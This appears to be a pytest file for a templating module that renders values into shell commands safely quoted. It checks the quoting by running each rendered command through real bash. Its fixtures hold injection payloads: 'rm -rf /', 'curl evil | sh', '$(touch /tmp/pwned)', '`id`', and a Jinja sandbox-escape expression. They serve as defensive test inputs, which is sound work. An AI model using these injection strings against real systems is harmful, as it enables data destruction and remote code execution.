"""Templating: values reach shells quoted, ``| raw`` opts out, and mistakes are InputErrors.

The quoting tests hand the rendered command to a real bash, because "stays one word" is a
property of what the shell does with it, not of how the string looks.
"""

from __future__ import annotations

import subprocess

import pytest

from runwright.errors import InputError
from runwright.model.templating import (
    Placeholder,
    outside,
    render,
    render_value,
    variables_used,
)

NASTY = [
    "1.2; rm -rf /",
    "v1 && curl evil | sh",
    "$(touch /tmp/pwned)",
    "`id`",
    "it's",
    'say "hi"',
    "a\nb",
    "*",
    "",
]


def words(command: str) -> list[str]:
    """The arguments bash passes to printf for ``command`` (one per line, NUL-separated)."""
    result = subprocess.run(
        ["bash", "-c", f"printf '%s\\0' {command}"],
        capture_output=True,
        check=True,
        cwd="/",
    )
    return result.stdout.decode().split("\0")[:-1]


@pytest.mark.parametrize("value", NASTY)
def test_a_templated_value_is_one_word_in_the_shell(value: str) -> None:
    command = render("{{ version }}", {"version": value}, shell=True)
    assert words(command) == [value]


def test_quoting_applies_inside_larger_commands_and_loops() -> None:
    command = render(
        "{{ v }} {% for h in hosts %}{{ h }} {% endfor %}",
        {"v": "1.2; rm -rf /", "hosts": ["web 1", "web;2"]},
        shell=True,
    )
    assert words(command) == ["1.2; rm -rf /", "web 1", "web;2"]


def test_raw_is_spliced_unquoted() -> None:
    command = render("{{ flags | raw }}", {"flags": "--force  --yes"}, shell=True)
    assert command == "--force  --yes"
    assert words(command) == ["--force", "--yes"]


def test_args_passes_several_outside_arguments_as_words_never_as_code() -> None:
    flags = outside("--region 'eu west' $(touch /tmp/pwned) ;id", "--var flags")
    command = render("deploy.sh {{ flags | args }}", {"flags": flags}, shell=True)
    assert words(command) == ["deploy.sh", "--region", "eu west", "$(touch", "/tmp/pwned)", ";id"]
    with pytest.raises(InputError, match="'raw' would splice --var flags unquoted"):
        render("deploy.sh {{ flags | raw }}", {"flags": flags}, shell=True)


def test_args_with_an_unclosed_quote_is_an_input_error() -> None:
    with pytest.raises(InputError, match="'args' cannot split") as caught:
        render("x {{ a | args }}", {"a": outside("--name 'half", "--var a")}, shell=True)
    assert caught.value.hint == "close the quote in the value"


def test_quote_filter_quotes_once() -> None:
    assert render("{{ v | quote }}", {"v": "a b"}, shell=True) == "'a b'"


@pytest.mark.parametrize(
    ("value", "expected"), [(None, "''"), (5, "5"), (1.5, "1.5"), ("plain", "plain")]
)
def test_non_string_values_render_safely(value: object, expected: str) -> None:
    assert render("{{ v }}", {"v": value}, shell=True) == expected


def test_placeholders_stand_unquoted_in_plans() -> None:
    assert render("{{ token }}", {"token": Placeholder("<captured token>")}, shell=True) == (
        "<captured token>"
    )


def test_outside_shells_values_are_not_quoted() -> None:
    assert render("http://{{ host }}/a b", {"host": "h:80"}) == "http://h:80/a b"


def test_text_without_templates_is_returned_as_is() -> None:
    assert render("echo {not a template}", {}, shell=True) == "echo {not a template}"


def test_an_undefined_name_is_an_input_error_naming_where_and_what_exists() -> None:
    with pytest.raises(InputError) as caught:
        render("deploy {{ verison }}", {"version": "1", "environment": "s"}, where="step 'x'")
    assert (
        caught.value.message == "step 'x': undefined variable in template: 'verison' is undefined"
    )
    assert caught.value.hint == "define it under vars (available: environment, version)"


def test_the_sandbox_keeps_runbooks_away_from_python_internals() -> None:
    with pytest.raises(InputError, match="unsafe"):
        render("{{ ''.__class__.__mro__[1].__subclasses__() }}", {})


def test_a_broken_expression_is_an_input_error() -> None:
    with pytest.raises(InputError, match="template error") as caught:
        render("{{ version ", {"version": "1"})
    assert caught.value.hint == "check the {{ }} expression"


def test_render_value_renders_every_string_inside() -> None:
    value = {"a": ["{{ v }}", 3, {"b": "x-{{ v }}"}], "c": None}
    assert render_value(value, {"v": "1 2"}) == {"a": ["1 2", 3, {"b": "x-1 2"}], "c": None}


def test_variables_used_lists_top_level_names() -> None:
    assert variables_used("{{ a }} {{ b.c }} {% for x in d %}{{ x }}{% endfor %}") == {
        "a",
        "b",
        "d",
    }
    assert variables_used("{{ broken") == set()
